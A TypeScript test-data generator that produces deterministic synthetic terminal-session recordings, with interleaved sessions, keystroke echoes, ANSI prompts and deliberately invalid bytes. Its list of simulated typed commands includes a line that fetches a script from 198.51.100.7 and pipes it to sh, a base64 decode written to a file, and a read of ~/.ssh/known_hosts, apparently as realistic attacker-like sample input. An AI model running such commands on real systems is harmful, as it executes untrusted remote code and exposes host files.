// Shards as a recorder writes them, made on the fly: the same bytes for the same options.

/** What to generate. */
export interface ShardShape {
  readonly sessions: number;
  /** Bytes of lines of each session, about. */
  readonly bytesPerSession: number;
  /** Sessions that are open at the same time, their lines interleaved. */
  readonly concurrent: number;
  readonly seed?: number;
  /** Epoch seconds at which the first session starts. */
  readonly startedAt?: number;
}

/** Bytes handed out at once. */
const PIECE_BYTES = 1024 * 1024;
const DEFAULT_START = Date.UTC(2026, 0, 15, 8) / 1000;

const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp; wget http://198.51.100.7/x.sh -O- | sh',
  'ls -la /var/www',
  'ps aux | grep -v root',
  'echo "cm9vdDp4OjA=" | base64 -d > .k',
  'whoami',
  'free -m',
  'crontab -l',
  'cat ~/.ssh/known_hosts',
];
const OUTPUT_LINES = [
  '\u001b[01;34mbin\u001b[0m  \u001b[01;34mboot\u001b[0m  \u001b[01;36mvmlinuz\u001b[0m -> boot/vmlinuz',
  'drwxr-xr-x  2 root root 4096 Jan 12 09:14 backups',
  '-rw-r--r--  1 www-data www-data 10918 Jan 02 11:40 index.html',
  'root      1203  0.0  0.4  72296  5860 ?  Ss  Jan10  0:00 /usr/sbin/sshd -D',
  'Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux',
  'Größe: 4096 Bytes — naïve façade, 日本語のテキスト',
  'bash: command not found',
];
const PROMPT =
  '\u001b]0;root@web01: ~\u0007\u001b[01;32mroot@web01\u001b[00m:\u001b[01;34m~\u001b[00m# ';

/** The shard in pieces of about a megabyte. */
export function* generateShard(shape: ShardShape): Generator<Buffer> {
  const random = mulberry32(shape.seed ?? 1);
  const open: Typist[] = [];
  let started = 0;
  let lines: string[] = [];
  let length = 0;
  while (started < shape.sessions || open.length > 0) {
    while (open.length < shape.concurrent && started < shape.sessions) {
      open.push(new Typist(started++, shape, random));
    }
    const at = Math.floor(random() * open.length);
    const typist = open[at];
    if (typist === undefined) break;
    const written = typist.next();
    if (written.length === 0) open.splice(at, 1);
    for (const line of written) length += lines.push(line) && line.length;
    if (length >= PIECE_BYTES) {
      yield recorded(lines);
      [lines, length] = [[], 0];
    }
  }
  yield recorded(lines);
}

/** The id of the session with this number. */
export function generatedSid(number: number, seed = 1): string {
  const hex = (value: number, digits: number): string =>
    (value >>> 0).toString(16).padStart(8, '0').slice(-digits);
  const mixed = Math.imul(number + 1, 0x9e3779b1) ^ seed;
  return `${hex(mixed, 8)}-${hex(number, 4)}-4${hex(mixed >>> 7, 3)}-8${hex(mixed >>> 3, 3)}-${hex(seed, 4)}${hex(Math.imul(mixed, 0x85ebca6b), 8)}`;
}

/** One operator: types commands key by key, pastes some, and sees what they print. */
class Typist {
  readonly #sid: string;
  readonly #random: () => number;
  readonly #start: number;
  /** Lines that are written together: a key and its echo, a command's end and what it printed. */
  readonly #queue: string[][] = [[]];
  #left: number;
  #t = 0;

  constructor(number: number, shape: ShardShape, random: () => number) {
    this.#sid = generatedSid(number, shape.seed);
    this.#random = random;
    this.#left = shape.bytesPerSession;
    this.#start = (shape.startedAt ?? DEFAULT_START) + number;
    const header = { version: 2, width: 80, height: 24, timestamp: this.#start };
    const env = '"env":{"SHELL":"/bin/bash","TERM":"xterm-256color"}';
    this.#write(`{"sid":"${this.#sid}","hdr":{${JSON.stringify(header).slice(1, -1)},${env}}}\n`);
    this.#say('o', '\u001b[?2004h' + PROMPT);
  }

  /** The next lines; none when the session is over. */
  next(): readonly string[] {
    if (this.#queue.length === 0 && this.#left > 0) this.#command();
    return this.#queue.shift() ?? [];
  }

  #pause(seconds: number): void {
    this.#t += seconds;
    if (this.#queue.at(-1)?.length !== 0) this.#queue.push([]);
  }

  #write(line: string): void {
    this.#queue.at(-1)?.push(line);
    this.#left -= line.length;
  }

  #command(): void {
    const command = COMMANDS[Math.floor(this.#random() * COMMANDS.length)] ?? '';
    this.#pause(0.5 + 4 * this.#random());
    if (this.#random() < 0.15) {
      this.#say('i', command);
      this.#say('o', command);
    } else {
      for (const key of command) {
        this.#pause(0.06 + 0.2 * this.#random());
        this.#say('i', key);
        this.#say('o', key);
      }
    }
    this.#say('i', '\r');
    this.#say('o', '\r\n\u001b[?2004l\r');
    const rows = Math.floor(this.#random() * 6);
    if (rows > 0) this.#say('o', this.#output(rows));
    if (this.#random() < 0.02) this.#say('o', '\udcff\udce9 caf\udce9\r\n');
    this.#say('o', '\u001b[?2004h' + PROMPT);
  }

  #output(rows: number): string {
    const line = (): string => OUTPUT_LINES[Math.floor(this.#random() * OUTPUT_LINES.length)] ?? '';
    return Array.from({ length: rows }, line).join('\r\n') + '\r\n';
  }

  #say(channel: string, text: string): void {
    this.#t += 0.0001;
    const data = JSON.stringify(text).replaceAll('\u007f', '\\u007f');
    this.#write(`{"sid":"${this.#sid}","t":${this.#t.toFixed(6)},"ch":"${channel}","d":${data}}\n`);
  }
}

/** Escaped bytes, which JSON.stringify writes as `\udcXX`, become the raw bytes they stand for. */
function recorded(lines: readonly string[]): Buffer {
  const text = lines.join('');
  if (!text.includes('\\udc')) return Buffer.from(text, 'utf8');
  const latin1 = Buffer.from(text, 'utf8').toString('latin1');
  return Buffer.from(
    latin1.replace(/\\udc([89a-f][0-9a-f])/g, (_all, byte: string) =>
      String.fromCharCode(Number.parseInt(byte, 16)),
    ),
    'latin1',
  );
}

/** A small, fast generator of numbers in 0..1, the same everywhere for a seed. */
function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}
